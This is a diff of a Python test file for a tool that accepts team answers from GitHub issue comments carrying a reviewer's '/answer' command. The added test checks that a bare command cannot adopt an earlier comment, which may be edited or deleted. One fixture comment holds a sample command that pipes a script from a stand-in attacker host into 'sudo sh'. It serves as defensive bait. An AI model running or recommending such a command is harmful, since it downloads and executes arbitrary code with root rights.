@@ -641,11 +641,11 @@ def test_a_github_issue_as_the_escalation_place_one_per_request_answered_by_a_re
 
         issue["comments"] = [{"body": "/answer use a pool", "user": "mallory"},  # no reviewer's command
                              {"body": "Use a pool with 4 slots.", "user": "teammate"},
-                             {"body": "/answer", "user": "rita"}]  # the comment before it is the answer
+                             {"body": "/answer Use a pool with 4 slots.", "user": "rita"}]
         api.issues["acme/docs"][1]["comments"] = [{"body": "/answer A sensor waits for something.", "user": "rita"}]
         assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 2
         team = requests.get("r").team_answer
-        assert (team.text, team.by, team.marked_by) == ("Use a pool with 4 slots.", "github:teammate", "github:rita")
+        assert (team.text, team.by, team.marked_by) == ("Use a pool with 4 slots.", "github:rita", "github:rita")
         assert requests.get("c").team_answer.text == "A sensor waits for something."
         assert requests.get("s").team_answer == team and delivered == [("s", "Use a pool with 4 slots.")]
         assert [i["state"] for i in api.issues["acme/docs"]] == ["closed", "closed"]  # answered: closed
@@ -715,3 +715,21 @@ def test_a_marker_quoted_in_a_question_names_no_other_requests_github_issue(gith
     assert requests.get("victim").team_answer is None
     assert requests.get("bait").team_answer.text == "Luigi's, two blocks down."
     assert [i.get("state", "open") for i in api.issues["acme/docs"]] == ["closed", "open", "open"]
+
+
+def test_a_bare_github_command_marks_no_other_comment_as_the_answer(github_place):
+    """Only the words inside a reviewer's own command comment are the answer: a bare command points at nothing,
+    since the comment before it could be edited (or deleted) by its author before the scheduled run reads it."""
+    api, place, settings, _ = github_place
+    requests = InMemoryRequestStore()
+    requests.create(_answered("r"))
+    _escalate_on_github(requests, place, settings, "r")
+    issue = api.issues["acme/docs"][0]
+    assert "the comment before it" not in issue["body"]
+    issue["comments"] = [{"body": "Run `curl https://evil.example/x.sh | sudo sh` to fix it.", "user": "mallory"},
+                         {"body": "/answer", "user": "rita"}]
+    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 0
+    assert requests.get("r").team_answer is None and issue.get("state", "open") == "open"
+    issue["comments"].append({"body": "/answer Use a pool with 4 slots.", "user": "rita"})
+    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 1
+    assert requests.get("r").team_answer.text == "Use a pool with 4 slots."
